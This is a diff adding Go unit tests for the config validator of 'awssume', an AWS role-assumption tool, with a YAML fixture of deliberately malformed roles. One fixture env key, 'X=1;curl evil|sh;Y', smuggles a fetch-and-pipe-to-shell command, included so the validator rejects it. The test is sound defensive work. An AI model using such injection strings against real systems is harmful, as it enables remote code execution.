@@ -0,0 +1,91 @@
+package awssume
+
+import (
+	"testing"
+
+	"github.com/spf13/afero"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestConfigValidate(t *testing.T) {
+	fs := afero.NewMemMapFs()
+	assert.NoError(t, afero.WriteFile(fs, "/awssume.yaml", []byte("version: 2\n"+
+		"roles:\n"+
+		"  - alias: skunk\n"+
+		"    arn: arn:aws:iam::000000000000:role/skunk\n"+
+		"    session_name: '{{.User}}-{{.Host}}'\n"+
+		"    source_identity: '{{.User}}'\n"+
+		"  - alias: badger\n"+
+		"    arn: arn:aws:s3:::badger\n"+
+		"    session_name: badger burrow\n"+
+		"    source: weasel\n"+
+		"  - alias: skunk\n"+
+		"    arn: arn:aws:iam::000000000000:role/skunk\n"+
+		"    session_name: skunk\n"+
+		"    tags:\n"+
+		"      team: platform\n"+
+		"    transitive_tag_keys: [env]\n"+
+		"    session_duration: 60\n"+
+		"    source_identity: aws:skunk\n"+
+		"  - alias: ferret\n"+
+		"    arn: arn:aws:iam::000000000000:role/ferret\n"+
+		"    session_name: '{{.Nope}}'\n"+
+		"    source: ferret\n"+
+		"  - alias: stoat\n"+
+		"    arn: arn:aws:iam::000000000000:role/stoat\n"+
+		"    session_name: stoat\n"+
+		"    source: skunk\n"+
+		"    session_duration: 7200\n"+
+		"    env:\n"+
+		"      'X=1;curl evil|sh;Y': '1'\n",
+	), 0o600))
+
+	cfg, err := NewConfig(&NewConfigOpts{Fs: fs, Path: "/awssume"})
+	assert.NoError(t, err)
+
+	problems := cfg.Validate()
+	for _, tc := range []struct {
+		index int
+		field string
+		line  int
+		err   error
+	}{
+		{index: 1, field: "arn", line: 8, err: ErrNotRoleARN},
+		{index: 1, field: "session_name", line: 9, err: ErrInvalidSessionName},
+		{index: 1, field: "source", line: 10, err: ErrUnknownSourceRole},
+		{index: 2, field: "alias", line: 11, err: ErrAliasTaken},
+		{index: 2, field: "transitive_tag_keys", line: 16},
+		{index: 2, field: "source_identity", line: 18, err: ErrInvalidSourceIdentity},
+		{index: 2, field: "session_duration", line: 17, err: ErrInvalidSessionDuration},
+		{index: 3, field: "session_name", line: 21},
+		{index: 3, field: "source", line: 22},
+		{index: 4, field: "session_duration", line: 27, err: ErrChainedSessionDuration},
+		{index: 4, field: "env", line: 28, err: ErrInvalidEnvVarName},
+	} {
+		if !assert.NotEmpty(t, problems, tc.field) {
+			return
+		}
+
+		p := problems[0]
+		problems = problems[1:]
+
+		assert.Equal(t, tc.index, p.Index)
+		assert.Equal(t, tc.field, p.Field)
+		assert.Equal(t, tc.line, p.Line)
+		if tc.err != nil {
+			assert.ErrorIs(t, p, tc.err)
+		}
+	}
+
+	assert.Empty(t, problems)
+}
+
+func TestValidationError(t *testing.T) {
+	assert.EqualError(t, &ValidationError{
+		Index: 1, Alias: "badger", Field: "arn", Line: 8, Err: ErrNotRoleARN,
+	}, "roles[1] (badger) line 8: arn: ARN is not an IAM Role ARN")
+
+	assert.EqualError(t, &ValidationError{
+		Index: 0, Field: "alias", Err: ErrEmptyAlias,
+	}, "roles[0]: alias: alias is empty")
+}